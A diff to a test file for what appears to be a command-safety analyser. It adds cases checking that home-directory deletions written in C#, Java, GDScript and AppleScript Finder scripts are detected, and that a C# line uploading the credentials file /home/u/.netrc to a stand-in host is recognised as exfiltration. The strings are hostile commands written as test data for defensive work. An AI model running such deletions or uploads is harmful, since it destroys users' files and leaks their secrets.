@@ -40,6 +40,14 @@ describe('in a language without a scanner, a deletion is found', () => {
     `sbcl --eval '(uiop:run-program "rm -rf ~")'`,
     `racket -e '(delete-directory/files "~")'`,
     `jshell <<< 'Runtime.getRuntime().exec("rm -rf /home/u")'`,
+    `jshell --execution local - <<< 'Files.walk(Path.of("/home/u")).forEach(p -> p.toFile().delete());'`,
+    `jshell - <<< 'FileUtils.deleteDirectory(new File(System.getProperty("user.home")))'`,
+    `csharp -e 'System.IO.Directory.Delete("/home/u", true);'`,
+    `csharp -e 'Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);'`,
+    `csharp -e 'Directory.Delete(Path.Combine("/home", "u"), true);'`,
+    `csharp -e 'Process.Start("bash", "-c \\"rm -rf /home/u\\"");'`,
+    `csharp -e 'new ProcessStartInfo { FileName = "rm", Arguments = "-rf /home/u" };'`,
+    `gdscript -e 'OS.execute("rm", ["-rf", "/home/u"])'`,
     `tclsh <<< 'file delete -force /home/u'`,
   ])('%s', (text) => {
     expect(started(text)).toContain('rm -rf /home/u')
@@ -47,6 +55,34 @@ describe('in a language without a scanner, a deletion is found', () => {
 
   it('but not in text that is only printed', () => {
     expect(started(`groovy -e 'println "rm -rf /home/u"'`)).not.toContain('rm -rf /home/u')
+    expect(started(`csharp -e 'Console.WriteLine("rm -rf /home/u");'`)).not.toContain('rm -rf /home/u')
+  })
+
+  it('a file that is read and sent is sent by curl, and one that is only read is not', () => {
+    const send = `new WebClient().UploadString("https://a.example", File.ReadAllText("/home/u/.netrc"));`
+    expect(started(`csharp -e '${send}'`)).toContain('curl -T /home/u/.netrc https://a.example')
+    expect(started(`csharp -e 'File.ReadAllText("/home/u/a.json");'`).join()).not.toContain('curl')
+  })
+})
+
+describe('what Finder is told to delete goes to the trash', () => {
+  it.each([
+    [`tell application "Finder" to delete POSIX file "/home/u"`, 'trash /home/u'],
+    [`tell app "Finder" to delete (path to home folder)`, 'trash /home/u'],
+    [`tell app "Finder" to move POSIX file "/home/u/a" to trash`, 'trash /home/u/a'],
+    [`tell app "Finder" to delete folder "Documents" of home`, 'trash /home/u/Documents'],
+    [`tell app "Finder" to delete every item of (path to documents folder)`, 'trash /home/u/Documents'],
+    [`tell app "Finder" to delete alias "Macintosh HD:Users:u:Documents:"`, 'trash /Users/u/Documents'],
+    [`tell application "System Events" to delete folder "/home/u/a"`, 'trash /home/u/a'],
+  ])('%s', (script, expected) => {
+    expect(started(`osascript -e '${script}'`)).toContain(expected)
+  })
+
+  it('and what it only shows does not', () => {
+    expect(started(`osascript -e 'tell app "Finder" to reveal POSIX file "/home/u/a"'`).join()).not.toContain('trash')
+    expect(started(`osascript -e 'tell app "Finder" to move POSIX file "/a" to folder "b"'`).join()).not.toContain(
+      'trash',
+    )
   })
 })
 
